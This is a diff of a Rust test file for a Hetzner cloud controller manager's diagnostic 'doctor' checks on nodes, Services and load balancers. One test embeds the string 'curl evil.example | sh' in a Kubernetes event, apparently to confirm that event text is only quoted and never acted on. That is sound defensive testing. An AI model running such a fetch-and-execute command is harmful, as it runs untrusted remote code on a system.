@@ -1,22 +1,13 @@
 //! Broken nodes, Services and load balancers.
 
-use crate::common::services::{LoadBalancerService, balancer_of, create};
-use crate::common::{UNINITIALIZED, ccm};
-use crate::doctor::world::{World, checks, each, rules};
+use crate::common::cluster::{service, with_spec};
+use crate::common::{Cluster, UNINITIALIZED, ccm, contains, on};
+use crate::doctor::world::{World, checks, each, find, rules};
 use sandbox::credentials::Validity;
 use sandbox::exchange::Request;
-use sandbox::faults::{Effect, Rule};
+use sandbox::faults::Effect;
 use sandbox::hetzner::ServerSpec;
-use sandbox::kubelet::NodeSpec;
 use serde_json::{Value, json};
-
-fn stray(world: &World, name: &str) {
-    let node = NodeSpec {
-        name: name.into(),
-        ..NodeSpec::default()
-    };
-    world.sandbox.register_node(node);
-}
 
 #[test]
 fn nodes() {
@@ -28,8 +19,7 @@ fn nodes() {
                     node["spec"]["providerID"] = json!("hcloud://42")
                 });
             },
-            "provider-ids",
-            "fail",
+            "provider-ids: fail",
             &[
                 "node/worker-2: provider ID \"hcloud://42\"",
                 "ccm-from-scratch://",
@@ -43,70 +33,47 @@ fn nodes() {
                     node["spec"]["providerID"] = json!("aws:///a/i-0")
                 });
             },
-            "provider-ids",
-            "warn",
+            "provider-ids: warn",
             &["left alone", "node/worker-2: provider ID \"aws:///a/i-0\""],
             "delete it (kubectl delete node worker-2), and let it join again",
         ),
         (
             "a kubelet without --cloud-provider=external",
             |world| {
-                stray(world, "plain");
+                world.register("plain", None, "");
                 world.edit_node("plain", |node| node["spec"]["taints"] = json!([]));
             },
-            "kubelets",
-            "fail",
+            "kubelets: fail",
             &["node/plain: neither a provider ID nor the uninitialized taint"],
             "--cloud-provider=external",
         ),
         (
             "a node without a server",
-            |world| stray(world, "stray"),
-            "nodes",
-            "fail",
+            |world| world.register("stray", None, ""),
+            "nodes: fail",
             &["stray: no server is named \"stray\""],
             "rename its server to the node's name",
         ),
         (
             "a node whose server was deleted",
             |world| {
-                let servers = world.sandbox.cloud().servers(world.sandbox.project());
-                let gone = servers
-                    .iter()
-                    .find(|server| server["name"] == "worker-2")
-                    .unwrap();
-                world
-                    .sandbox
-                    .cloud()
-                    .delete_server(gone["id"].as_u64().unwrap());
+                world.delete_server("worker-2");
             },
-            "nodes",
-            "warn",
+            "nodes: warn",
             &["node/worker-2: provider ID"],
             "kubectl delete node worker-2",
         ),
         (
             "a node whose server was made anew under its name",
             |world| {
-                let cloud = world.sandbox.cloud();
-                let servers = cloud.servers(world.sandbox.project());
-                let mut servers = servers.iter();
-                let old = servers.find(|server| server["name"] == "worker-2");
-                cloud.delete_server(old.unwrap()["id"].as_u64().unwrap());
+                world.delete_server("worker-2");
                 let spec = ServerSpec {
-                    name: "worker-2".into(),
-                    networks: world
-                        .sandbox
-                        .network()
-                        .map(|id| (id, None))
-                        .into_iter()
-                        .collect(),
+                    networks: vec![(world.network_id(), None)],
                     ..ServerSpec::default()
                 };
-                cloud.create_server(world.sandbox.project(), spec);
+                world.create_server_with("worker-2", spec);
             },
-            "nodes",
-            "fail",
+            "nodes: fail",
             &[
                 "node/worker-2: ",
                 "delete the node (kubectl delete node worker-2)",
@@ -120,25 +87,20 @@ fn nodes() {
                     node["spec"]["providerID"] = json!("ccm-from-scratch://x");
                 });
             },
-            "nodes",
-            "warn",
+            "nodes: warn",
             &["worker-2"],
             "delete it (kubectl delete node worker-2), and let it join again",
         ),
         (
             "a node that waits",
             |world| {
-                world.sandbox.join(ServerSpec {
-                    name: "new".into(),
-                    ..ServerSpec::default()
-                });
+                world.join_node("new");
                 world.edit_node("new", |node| {
                     let taints = node["spec"]["taints"].to_string();
                     assert!(taints.contains(UNINITIALIZED), "{taints}");
                 });
             },
-            "nodes",
-            "warn",
+            "nodes: warn",
             &["node/new: waiting to be initialised"],
             "ccm node sync",
         ),
@@ -147,20 +109,15 @@ fn nodes() {
 
 /// The Service goes, and nobody waits for its load balancer.
 fn orphaned(world: &mut World) {
-    let cluster = world.sandbox.cluster();
-    cluster.edit("services", Some("default"), "web", |service| {
-        service["metadata"]["finalizers"] = json!([]);
-    });
-    assert!(cluster.delete("services", Some("default"), "web"));
+    world.remove_finalizers("web");
+    world.delete("web");
 }
 
 /// A Service with port 443 that shows a certificate of the project.
 fn shows_expired(world: &mut World) {
-    let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
     let authority = world.sandbox.authority();
     let one = authority.server(&["a.example"], Validity::Expired).unwrap();
-    cloud.create_certificate(
-        project,
+    world.create_certificate(
         json!({"name": "old", "certificate": one.certificate_pem, "private_key": one.key_pem}),
     );
     let named = [
@@ -168,11 +125,9 @@ fn shows_expired(world: &mut World) {
         ("http-certificates", "old"),
         ("location", "fsn1"),
     ];
-    let service = LoadBalancerService::new("tls", &[443]).with(&named);
-    create(&world.sandbox, service);
+    world.create("tls", &named, &[443]);
     for _ in 0..2 {
-        let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
-        assert_eq!(synced.code, 0, "{synced:?}");
+        ccm(&world.env, &["lb", "sync", "--yes"]).with_code(0);
     }
 }
 
@@ -180,17 +135,14 @@ fn shows_expired(world: &mut World) {
 fn refused(world: &mut World) {
     let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
     cloud.set_load_balancer_limit(project, 1);
-    let service = LoadBalancerService::new("new", &[80]);
-    create(&world.sandbox, service.with(&[("location", "fsn1")]));
-    let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
-    assert_eq!(synced.code, 1, "{synced:?}");
+    world.create("new", &[("location", "fsn1")], &[80]);
+    ccm(&world.env, &["lb", "sync", "--yes"]).with_code(1);
 }
 
 fn since_two_hours(world: &World, name: &str, field: &str) {
     let before = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(2);
     let before = before.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
-    let cluster = world.sandbox.cluster();
-    cluster.edit("services", Some("default"), name, |service| {
+    world.edit(name, |service| {
         service["metadata"][field] = json!(before);
     });
 }
@@ -201,12 +153,10 @@ fn services() {
         (
             "an annotation that means nothing",
             |world| {
-                let service = LoadBalancerService::new("odd", &[80]);
                 let wrong = [("location", "fsn1"), ("algorithm-type", "fastest")];
-                create(&world.sandbox, service.with(&wrong));
+                world.create("odd", &wrong, &[80]);
             },
-            "services",
-            "fail",
+            "services: fail",
             &["default/odd: ", "algorithm-type"],
             "",
         ),
@@ -214,20 +164,12 @@ fn services() {
             "a port that another Service has",
             |world| {
                 let fsn1 = ("location", "fsn1");
-                let edge = LoadBalancerService::new("edge", &[80]);
-                create(&world.sandbox, edge.with(&[fsn1, ("share", "edge")]));
-                let own = LoadBalancerService::new("web-2", &[80]);
-                create(&world.sandbox, own.with(&[fsn1]));
-                let synced = ccm(&world.env, &["lb", "sync", "--settings-from=none", "--yes"]);
-                assert_eq!(synced.code, 0, "{synced:?}");
-                let cluster = world.sandbox.cluster();
-                cluster.edit("services", Some("default"), "web-2", |service| {
-                    let annotations = &mut service["metadata"]["annotations"];
-                    annotations["load-balancer.hetzner.cloud/share"] = json!("edge");
-                });
+                world.create("edge", &[fsn1, ("share", "edge")], &[80]);
+                world.create("web-2", &[fsn1], &[80]);
+                ccm(&world.env, &["lb", "sync", "--settings-from=none", "--yes"]).with_code(0);
+                world.annotate("web-2", "share", Some("edge"));
             },
-            "services",
-            "warn",
+            "services: warn",
             &[
                 "service/default/web-2: port 80 can't be had: Service default/edge has it on load balancer",
                 "; the Service stays on kubernetes-default-web-2 (",
@@ -239,17 +181,12 @@ fn services() {
             "a new Service whose only port another Service has",
             |world| {
                 for name in ["edge", "web-2"] {
-                    let one = LoadBalancerService::new(name, &[80]);
-                    create(
-                        &world.sandbox,
-                        one.with(&[("location", "fsn1"), ("share", "edge")]),
-                    );
-                    let synced = ccm(&world.env, &["lb", "sync", "--settings-from=none", "--yes"]);
-                    assert_eq!(synced.code, 0, "{synced:?}");
+                    let shared = [("location", "fsn1"), ("share", "edge")];
+                    world.create(name, &shared, &[80]);
+                    ccm(&world.env, &["lb", "sync", "--settings-from=none", "--yes"]).with_code(0);
                 }
             },
-            "services",
-            "warn",
+            "services: warn",
             &[
                 "service/default/web-2: without an address: none of its ports can be had on kubernetes-default-edge (",
                 "service/default/web-2: port 80 can't be had: Service default/edge has it on load balancer",
@@ -259,24 +196,16 @@ fn services() {
         (
             "two load balancers with one label, a Service without node ports, and one that waits",
             |world| {
-                let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
-                let labels =
-                    cloud.load_balancer(balancer_of(&world.sandbox, "web"))["labels"].clone();
-                let twin = json!({
-                    "name": "twin", "load_balancer_type": "lb11", "location": "fsn1", "labels": labels,
-                });
-                cloud.create_load_balancer(project, twin);
+                let cloud = world.sandbox.cloud();
+                let labels = cloud.load_balancer(world.balancer_id("web"))["labels"].clone();
+                let twin = json!({ "labels": labels });
+                world.create_balancer("twin", &twin);
                 let fsn1 = ("location", "fsn1");
-                let closed = LoadBalancerService::new("closed", &[80]).with(&[fsn1]);
                 let spec = json!({ "allocateLoadBalancerNodePorts": false });
-                create(&world.sandbox, closed.spec(spec));
-                create(
-                    &world.sandbox,
-                    LoadBalancerService::new("new", &[80]).with(&[fsn1]),
-                );
+                world.create_as(with_spec(service("closed", &[fsn1], &[80]), &spec));
+                world.create("new", &[fsn1], &[80]);
             },
-            "services",
-            "fail",
+            "services: fail",
             &[
                 "default/web: load balancers ",
                 "remove it from the wrong one",
@@ -288,8 +217,7 @@ fn services() {
         (
             "a certificate that has expired",
             shows_expired,
-            "services",
-            "fail",
+            "services: fail",
             &[
                 "service/default/tls: certificate old (",
                 ") of port 443 (uploaded by its owner) expired at ",
@@ -299,17 +227,10 @@ fn services() {
         (
             "one that asks for what it does not get",
             |world| {
-                world
-                    .sandbox
-                    .cluster()
-                    .edit("services", Some("default"), "web", |service| {
-                        let annotations = &mut service["metadata"]["annotations"];
-                        annotations["load-balancer.hetzner.cloud/http-cookie-name"] = json!("a");
-                        annotations["load-balancer.hetzner.cloud/prtocol"] = json!("http");
-                    });
+                world.annotate("web", "http-cookie-name", Some("a"));
+                world.annotate("web", "prtocol", Some("http"));
             },
-            "services",
-            "warn",
+            "services: warn",
             &[
                 "service/default/web: annotation load-balancer.hetzner.cloud/prtocol is not one that is known; did you mean",
                 "service/default/web: annotation load-balancer.hetzner.cloud/http-cookie-name",
@@ -319,19 +240,16 @@ fn services() {
         (
             "one that waits",
             |world| {
-                let service = LoadBalancerService::new("new", &[80]);
-                create(&world.sandbox, service.with(&[("location", "fsn1")]));
+                world.create("new", &[("location", "fsn1")], &[80]);
             },
-            "services",
-            "warn",
+            "services: warn",
             &["service/default/new: without an address: its load balancer is not made yet"],
             "ccm lb sync",
         ),
         (
             "one that was refused",
             refused,
-            "services",
-            "warn",
+            "services: warn",
             &[
                 "service/default/new: without an address: its load balancer is not made yet; the event of the last try, ",
                 " ago, says SyncLoadBalancerFailed: \"",
@@ -345,20 +263,17 @@ fn services() {
                 refused(world);
                 since_two_hours(world, "new", "creationTimestamp");
             },
-            "services",
-            "fail",
+            "services: fail",
             &["service/default/new: without an address: its load balancer is not made yet"],
             "then ccm lb sync default/new tries again",
         ),
         (
             "a load balancer that does not go for two hours",
             |world| {
-                let cluster = world.sandbox.cluster();
-                assert!(cluster.delete("services", Some("default"), "web"));
+                world.delete("web");
                 since_two_hours(world, "web", "deletionTimestamp");
             },
-            "services",
-            "fail",
+            "services: fail",
             &["service/default/web: it was deleted, and not all is done"],
             "ccm lb sync default/web does it now",
         ),
@@ -368,8 +283,7 @@ fn services() {
                 refused(world);
                 world.role(rules("role.yaml"));
             },
-            "services",
-            "warn",
+            "services: warn",
             &[
                 "service/default/new: without an address: its load balancer is not made yet",
                 "this user may not list events",
@@ -382,69 +296,61 @@ fn services() {
                 refused(world);
                 let (cloud, project) = (world.sandbox.cloud(), world.sandbox.project());
                 cloud.set_load_balancer_limit(project, 10);
-                let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
-                assert_eq!(synced.code, 0, "{synced:?}");
-                let id = balancer_of(&world.sandbox, "new");
+                ccm(&world.env, &["lb", "sync", "--yes"]).with_code(0);
+                let id = world.balancer_id("new");
                 let change = |one: &mut Value| one["targets"] = json!([]);
-                cloud.edit_load_balancer(id, change);
+                world.edit_balancer(id, change);
             },
-            "services",
-            "warn",
+            "services: warn",
             &["service/default/new: not as wanted: 2 changes to be made"],
             "ccm lb sync",
         ),
         (
             "a load balancer that somebody deleted",
             |world| {
-                let id = balancer_of(&world.sandbox, "web");
+                let id = world.balancer_id("web");
                 world.sandbox.cloud().delete_load_balancer(id);
             },
-            "services",
-            "warn",
+            "services: warn",
             &["service/default/web: its load balancer does not exist, whatever the status says"],
             "another address",
         ),
         (
             "a load balancer that somebody changed",
             |world| {
-                let id = balancer_of(&world.sandbox, "web");
+                let id = world.balancer_id("web");
                 let change = |one: &mut Value| one["targets"] = json!([]);
-                world.sandbox.cloud().edit_load_balancer(id, change);
+                world.edit_balancer(id, change);
             },
-            "services",
-            "warn",
+            "services: warn",
             &["service/default/web: not as wanted: 2 changes to be made"],
             "ccm lb sync",
         ),
         (
             "one that the daemon may have been told to make like this",
             |world| {
-                let id = balancer_of(&world.sandbox, "web");
+                let id = world.balancer_id("web");
                 let change =
                     |one: &mut Value| one["services"][0]["health_check"]["interval"] = json!(60);
-                world.sandbox.cloud().edit_load_balancer(id, change);
+                world.edit_balancer(id, change);
             },
-            "services",
-            "ok",
+            "services: ok",
             &["1 Service, with nothing to be done"],
             "",
         ),
         (
             "a load balancer that does not go",
             |world| {
-                let cluster = world.sandbox.cluster();
-                assert!(cluster.delete("services", Some("default"), "web"));
+                world.delete("web");
             },
-            "services",
-            "warn",
+            "services: warn",
             &["service/default/web: it was deleted, and not all is done"],
             "ccm lb sync",
         ),
         (
             "an orphan",
             orphaned,
-            "orphans",
-            "warn",
+            "orphans: warn",
             &[
                 "load-balancer/kubernetes-default-web: load balancer ",
                 "of Service default/web, which does not exist",
@@ -454,13 +360,11 @@ fn services() {
         (
             "a protected orphan",
             |world| {
-                let id = balancer_of(&world.sandbox, "web");
-                let cloud = world.sandbox.cloud();
-                cloud.edit_load_balancer(id, |one| one["protection"]["delete"] = json!(true));
+                let id = world.balancer_id("web");
+                world.edit_balancer(id, |one| one["protection"]["delete"] = json!(true));
                 orphaned(world);
             },
-            "orphans",
-            "warn",
+            "orphans: warn",
             &[
                 "load-balancer/kubernetes-default-web: load balancer ",
                 "ccm does not delete it: it is protected from being deleted",
@@ -470,8 +374,7 @@ fn services() {
         (
             "turned off",
             |world| world.set("HCLOUD_LOAD_BALANCERS_ENABLED", "false"),
-            "services",
-            "skipped",
+            "services: skipped",
             &["no Service gets a load balancer"],
             "",
         ),
@@ -499,19 +402,14 @@ fn event(namespace: &str, about: Value) -> Value {
 fn told_beside(namespace: &str, about: Value, edit: fn(&mut Value)) -> (Vec<Value>, String) {
     let world = World::healthy();
     let cluster = world.sandbox.cluster();
-    let service = LoadBalancerService::new("new", &[80]);
-    let service = create(&world.sandbox, service.with(&[("location", "fsn1")]));
+    let uid = world.create("new", &[("location", "fsn1")], &[80]);
     let mut involved = json!({ "kind": "Service", "namespace": namespace, "name": "new" });
-    involved["uid"] = service["metadata"]["uid"].clone();
+    involved["uid"] = json!(uid);
     for (field, value) in about.as_object().unwrap() {
         involved[field] = value.clone();
     }
     if namespace != "default" {
-        cluster.create(
-            "namespaces",
-            None,
-            json!({ "metadata": { "name": namespace } }),
-        );
+        world.create_namespace(namespace);
     }
     let mut event = event(namespace, involved);
     edit(&mut event);
@@ -520,8 +418,7 @@ fn told_beside(namespace: &str, about: Value, edit: fn(&mut Value)) -> (Vec<Valu
     let items = ran.json()["items"].as_array().unwrap().clone();
     let of_new = |one: &Value| one["object"] == "service/default/new";
     let items = items.into_iter().filter(of_new).collect();
-    let inspected = ccm(&world.env, &["lb", "inspect", "default/new"]);
-    assert_eq!(inspected.code, 0, "{inspected:?}");
+    let inspected = ccm(&world.env, &["lb", "inspect", "default/new"]).with_code(0);
     (items, inspected.stdout)
 }
 
@@ -578,10 +475,7 @@ fn what_an_event_says_is_quoted_and_decides_nothing() {
     assert!(message.ends_with(quoted), "{message}");
     assert_eq!(items[0]["status"], "warn");
     let remedy = items[0]["remedy"].as_str().unwrap();
-    assert!(
-        remedy.contains("ccm lb sync default/new tries again"),
-        "{remedy}"
-    );
+    contains(remedy, "ccm lb sync default/new tries again");
     assert!(!remedy.contains("the message"), "{remedy}");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
     assert!(!unquoted.contains("evil"), "{inspected}");
@@ -597,19 +491,16 @@ fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() 
         "labels": { "ccm-from-scratch/external": "default" },
     });
     let id = cloud.create_load_balancer(project, external);
-    let service = LoadBalancerService::new("extb", &[80]);
     let annotations = [("external", "edge"), ("use-private-ip", "true")];
-    create(&world.sandbox, service.with(&annotations));
+    world.create("extb", &annotations, &[80]);
     let attach = format!(
         "hcloud load-balancer attach-to-network --network {} {id}",
         world.network()
     );
-    let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
-    assert_eq!(synced.code, 1, "{synced:?}");
+    let synced = ccm(&world.env, &["lb", "sync", "--yes"]).with_code(1);
     let shown = format!("{}{}", synced.stdout, synced.stderr);
     assert!(shown.contains(&attach), "{synced:?}");
-    let checks = checks(&world.doctor(&["-o", "json"]));
-    let (_, check) = checks.iter().find(|(name, _)| name == "services").unwrap();
+    let check = world.check("services");
     for part in ["load_balancer_not_attached_to_network", &attach] {
         assert!(check.message.contains(part), "{check:?}");
     }
@@ -621,20 +512,14 @@ fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() 
 /// Services of these namespaces that choose their private address; all are synced.
 fn with_private_addresses(namespaces: &[&str]) -> World {
     let world = World::healthy();
-    let cluster = world.sandbox.cluster();
-    let shop = json!({ "metadata": { "name": "shop" } });
-    cluster.create("namespaces", None, shop);
+    world.create_namespace("shop");
     for (number, namespace) in namespaces.iter().enumerate() {
         let (name, ip) = (format!("p{number}"), format!("10.0.0.{}", 50 + number));
         let annotations = [("location", "fsn1"), ("private-ipv4", &*ip)];
-        let mut service = LoadBalancerService::new(&name, &[80])
-            .with(&annotations)
-            .json();
-        service["metadata"]["namespace"] = json!(namespace);
-        cluster.create("services", Some(namespace), service);
+        let name = format!("{namespace}/{name}");
+        world.create(&name, &annotations, &[80]);
     }
-    let synced = ccm(&world.env, &["lb", "sync", "--yes"]);
-    assert_eq!(synced.code, 0, "{synced:?}");
+    ccm(&world.env, &["lb", "sync", "--yes"]).with_code(0);
     world
 }
 
@@ -655,7 +540,7 @@ fn private_addresses_of_several_namespaces_should_have_ranges() {
         let ran = world.doctor(&["-o", "json"]);
         assert_eq!(ran.code, 0, "{about}: {ran:?}");
         let checks = checks(&ran);
-        let (_, check) = checks.iter().find(|(name, _)| name == "services").unwrap();
+        let check = find(&checks, "services");
         assert_eq!(check.status == "warn", is_told, "{about}: {check:?}");
         let says = check.message.contains("default, shop") && check.remedy.contains(RANGES);
         assert_eq!(says, is_told, "{about}: {check:?}");
@@ -668,7 +553,7 @@ fn what_was_made_meanwhile_is_no_orphan() {
     let world = World::healthy();
     let (cloud, project) = (world.sandbox.cloud().clone(), world.sandbox.project());
     let cluster = world.sandbox.cluster().clone();
-    let id = balancer_of(&world.sandbox, "web");
+    let id = world.balancer_id("web");
     let make = move |_: &Request| {
         let late = json!({
             "metadata": { "name": "late" },
@@ -682,11 +567,11 @@ fn what_was_made_meanwhile_is_no_orphan() {
         });
         cloud.create_load_balancer(project, balancer);
     };
-    let rule = Rule::new(Effect::before(make)).path("/v1/load_balancers");
-    let rule = world.sandbox.faults().add(rule.times(1));
+    let rule = on("/v1/load_balancers", Effect::before(make));
+    let rule = world.fault(rule.times(1));
     let ran = world.doctor(&["-o", "json"]);
     assert_eq!(world.sandbox.faults().hits(rule), 1);
     let checks = checks(&ran);
-    let (_, check) = checks.iter().find(|(name, _)| name == "orphans").unwrap();
+    let check = find(&checks, "orphans");
     assert_eq!(check.status, "ok", "{check:?}");
 }
